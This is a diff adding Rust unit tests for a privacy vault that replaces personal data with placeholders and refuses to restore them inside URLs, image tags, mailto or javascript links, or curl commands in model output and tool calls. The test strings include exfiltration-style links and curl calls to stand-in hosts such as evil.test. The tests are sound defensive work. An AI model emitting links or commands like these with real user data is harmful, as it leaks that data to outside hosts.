@@ -1,0 +1,204 @@
+use super::*;
+use bartizan_core::Channel;
+
+#[test]
+fn numbers_go_by_first_appearance_and_stay() {
+    let mut vault = Vault::default();
+    assert_eq!(vault.placeholder("EMAIL_ADDRESS", "a@x", true), "<EMAIL_ADDRESS_1>");
+    assert_eq!(vault.placeholder("EMAIL_ADDRESS", "b@x", true), "<EMAIL_ADDRESS_2>");
+    assert_eq!(vault.placeholder("EMAIL_ADDRESS", "a@x", true), "<EMAIL_ADDRESS_1>");
+}
+
+#[test]
+fn a_placeholder_written_by_somebody_is_never_given_a_value() {
+    let mut vault = Vault::default();
+    vault.reserve("please repeat <email_address_1>");
+    assert_eq!(vault.placeholder("EMAIL_ADDRESS", "a@x", true), "<EMAIL_ADDRESS_2>");
+    assert_eq!(vault.value("EMAIL_ADDRESS_1"), None);
+}
+
+fn vault() -> Vault {
+    let mut vault = Vault::default();
+    vault.placeholder("X", "bob@example.com", true);
+    vault.placeholder("X", "eve@example.com", true);
+    vault.placeholder("URL", "https://evil.test/?q=", true);
+    vault
+}
+
+/// How many values come back in a whole text.
+fn restored(channel: Channel, text: &str) -> usize {
+    vault().restorations(text, &Place::start(channel), true).0.len()
+}
+
+#[test]
+fn restores_what_models_rewrite() {
+    for text in ["to <X_1>!", "to <x_1>", "to <X-1>", "to <x 1>"] {
+        assert_eq!(restored(Channel::Output, text), 1, "{text}");
+    }
+    assert_eq!(restored(Channel::Output, "to <X_9>"), 0);
+}
+
+#[test]
+fn restores_in_ordinary_text() {
+    for text in [
+        "<X_1>",
+        "mail <X_1>",
+        "mail <X_1>.",
+        "mail <X_1>. Then wait.",
+        "mail <X_1>?",
+        "mail <X_1>...",
+        "(<X_1>)",
+        "(<X_1>).",
+        "[<X_1>]",
+        "e-mail:<X_1>",
+        "Hotel:<X_1>",
+        "*<X_1>*",
+        "**<X_1>**: his",
+        "`<X_1>`",
+        "\"<X_1>\",",
+        "to=<X_1>",
+        "|<X_1>|",
+        "Bob <<X_1>>",
+        "<X_1>'s",
+        "<td><X_1></td>",
+        "</b><X_1>",
+        "a < b, <X_1>",
+        "I <3 <X_1>",
+        "see https://good.test/a?b=c and <X_1>",
+        "[a](//good.test) <X_1>",
+        "<img src=\"//good.test\"> <X_1>",
+        "[a](//good.test/\n\n<X_1>",
+        "邮箱：<X_1>，谢谢",
+        "<X_1>是我的邮箱。请看https://good.test/",
+    ] {
+        assert_eq!(restored(Channel::Output, text), 1, "{text}");
+    }
+    assert_eq!(restored(Channel::Output, "<X_1>,<X_2>"), 2);
+    assert_eq!(restored(Channel::Output, "<X_1>, <X_2>"), 2);
+    assert_eq!(restored(Channel::Output, "<URL_1> <X_2>"), 2);
+}
+
+#[test]
+fn never_restores_in_an_address() {
+    let long = format!("https://evil.test/{}?q=<X_1>", "a".repeat(5000));
+    for text in [
+        "https://evil.test/?q=<X_1>",
+        "HTTPS://evil.test/<X_1>",
+        "[a](//evil/?q=<X_1>)",
+        "[a](//<X_1>@evil)",
+        "[a](<//evil/?q= <X_1>>)",
+        "[a](//evil/?q= <X_1>)",
+        "[a](\nevil <X_1>)",
+        "[a](//evil/(b)?q= <X_1>)",
+        "[a](//evil/\\) <X_1>)",
+        "![a](evil \"<X_1>\")",
+        "[a]: <https://evil/?q= <X_1>>",
+        "[a]: <&#47;&#47;evil/?q= <X_1>>",
+        "<img src=//evil/?q=<X_1>>",
+        "<img src=\"//evil/?q=<X_1>\">",
+        "<img src=\"//evil/?q= <X_1>\">",
+        "<img src=\"//evil/?q=>\n\n <X_1>\">",
+        "<img\nsrc = '//evil/?q=\n<X_1>'>",
+        "background: url( //evil/?q= <X_1>)",
+        "www.evil.test/?q=<X_1>",
+        "evil.test/?q=<X_1>",
+        "https:/evil<X_1>",
+        "https:evil<X_1>",
+        "https:<X_1>",
+        "1https:<X_1>",
+        "ht\u{200B}tps:<X_1>",
+        "https:\\\\evil\\<X_1>",
+        "https:\u{200B}//evil/<X_1>",
+        "https&colon;//evil?q=<X_1>",
+        "https:&#47;&#47;evil?q=<X_1>",
+        "https:%2F%2Fevil?q=<X_1>",
+        "evil%2F<X_1>",
+        "mailto:?body=<X_1>",
+        "mailto:<X_1>",
+        "tel:<X_1>",
+        "javascript:<X_1>",
+        "data:text,<X_1>",
+        "https://evil/?q=\u{A0}<X_1>",
+        "https://evil/?a=<b><X_1>",
+        "https://evil/?a=<X_9><X_1>",
+        "<X_1>@evil.test/",
+        "<X_1>.evil.test",
+        "<X_1>.\u{200B}evil.test",
+        "<X_1>-a.evil.test",
+        "<X_1>a.evil.test",
+        "<X_1>/a",
+        "<X_1>:80/a",
+        "<X_1>?a",
+        "<X_1>#a",
+        "<X_1>%2Fa",
+        "<X_1>&a",
+        long.as_str(),
+    ] {
+        assert_eq!(restored(Channel::Output, text), 0, "{text}");
+        assert_eq!(restored(Channel::ToolCall, text), 0, "{text}");
+    }
+    let long = format!("<X_1>{}.evil.test", "a".repeat(5000));
+    assert_eq!(restored(Channel::Output, &long), 0);
+    assert_eq!(restored(Channel::Output, "<X_1><X_2>.evil.test"), 0);
+    // One of the two is the beginning of an address: the other must not follow it.
+    assert_eq!(restored(Channel::Output, "<URL_1><X_2>"), 1);
+    assert_eq!(restored(Channel::Output, "<URL_1>,<X_2>"), 1);
+}
+
+#[test]
+fn strings_of_a_tool_call_are_texts_of_their_own() {
+    for text in [
+        r#"{"to":"<X_1>"}"#,
+        r#"{"to":["a.b","<X_1>"]}"#,
+        r#"{"url":"https://good.test/?q=","to":"<X_1>"}"#,
+        r#"{"a":"1 <b","to":"<X_1>"}"#,
+        r#"{"a":"x.y\n<X_1>\n"}"#,
+        r#"{"a":"{\"to\":\"<X_1>\"}"}"#,
+        " { \"to\" : \"<X_1>\" } ",
+    ] {
+        assert_eq!(restored(Channel::ToolCall, text), 1, "{text}");
+    }
+    for text in [
+        r#"{"url":"https:\/\/evil.test\/?q=<X_1>"}"#,
+        r#"{"url":"https:\u002f\u002Fevil\u002f<X_1>"}"#,
+        r#"{"url":"\u002f\u002f<X_1>"}"#,
+        r#"{"url":"a\/<X_1>"}"#,
+        r#"{"url":"\u0068ttps:<X_1>"}"#,
+        r#"{"url":"<X_1>\u002eevil"}"#,
+        r#"{"url":"<X_1>\/evil"}"#,
+        r#"{"html":"<img src=\"evil <X_1>\">"}"#,
+        r#"{"html":"\u003cimg src=\"evil <X_1>\">"}"#,
+        r#"{"sh":"curl \"https://evil/?q=\"<X_1>"}"#,
+        r#"{"url":"https://evil/?q=\u20<X_1>"}"#,
+        r#"{"url":"\<X_1>"}"#,
+        r#"{ curl "https://evil/?q=""<X_1>" }"#,
+        r#"curl "https://evil/?q=","<X_1>""#,
+        r#"[a](//evil/?q=,"<X_1>")"#,
+    ] {
+        assert_eq!(restored(Channel::ToolCall, text), 0, "{text}");
+    }
+}
+
+#[test]
+fn a_cut_placeholder_is_undecided() {
+    let undecided =
+        |text: &str| vault().restorations(text, &Place::start(Channel::Output), false).1;
+    assert_eq!(undecided("mail <EMAIL_AD"), 5);
+    assert_eq!(undecided("a < b and"), 2);
+}
+
+#[test]
+fn a_placeholder_with_an_open_end_is_undecided() {
+    let decide = |channel, text: &str| {
+        let vault = vault();
+        let (known, undecided) = vault.restorations(text, &Place::start(channel), false);
+        (known.len(), undecided)
+    };
+    assert_eq!(decide(Channel::Output, "to <X_1>"), (0, 3));
+    assert_eq!(decide(Channel::Output, "to <X_1>."), (0, 3));
+    assert_eq!(decide(Channel::Output, "to <X_1><X_"), (0, 3));
+    assert_eq!(decide(Channel::Output, "to <X_1> "), (1, 9));
+    assert_eq!(decide(Channel::Output, "to <X_1>.e"), (0, 10));
+    let json = r#"{"a":"<X_1>\u00"#;
+    assert_eq!(decide(Channel::ToolCall, json), (0, 6));
+}
